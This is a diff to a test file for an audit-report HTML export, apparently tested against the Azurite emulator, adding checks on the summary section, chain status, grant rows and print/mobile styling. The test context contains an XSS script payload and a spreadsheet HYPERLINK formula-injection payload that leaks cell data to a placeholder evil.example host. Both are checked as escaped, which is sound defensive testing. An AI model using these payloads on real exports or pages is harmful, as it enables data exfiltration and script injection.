@@ -168,8 +168,20 @@ describe('auditor exports (Azurite)', () => {
       period: { from: T('08:00'), to: T('14:00') },
     });
     expect(ok).toBe(true);
-    expect(text).toContain('<h2>Holders over time</h2>');
-    expect(text).toContain('hash chain verified: 13 entries through seq 13');
+    // The summary comes first: chain and anchor status, holders now, each grant with its approver and channel.
+    const summary = text.slice(text.indexOf('<h2>Summary</h2>'), text.indexOf('<h2>Integrity</h2>'));
+    expect(text.indexOf('<h2>Summary</h2>')).toBeLessThan(text.indexOf('<h2>Holders over time</h2>'));
+    expect(summary).toContain('<span class="ok">intact: 13 entries, through seq 13</span>');
+    expect(summary).toContain('none yet: nothing written-once to check the chain against');
+    expect(summary).toContain('<td data-label="principal">lynner@contoso.onmicrosoft.com</td>');
+    expect(summary).toContain(
+      `<td data-label="approved by">lidiah@contoso.onmicrosoft.com</td><td data-label="verified as">api token (oid ${LIDIA_TOKEN.oid}`,
+    );
+    expect(summary).toContain('1 opened, 1 resolved in the period; 0 still open');
+    // Phone width and print: the viewport, stacking tables, and a print stylesheet.
+    expect(text).toContain('<meta name="viewport" content="width=device-width, initial-scale=1">');
+    expect(text).toContain('table.data td[data-label]::before');
+    expect(text).toContain('@media print{');
     expect(text).toContain('&lt;script&gt;alert(&quot;Adele&quot;)&lt;/script&gt;');
     expect(text).not.toContain('<script>');
     expect(text).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1');
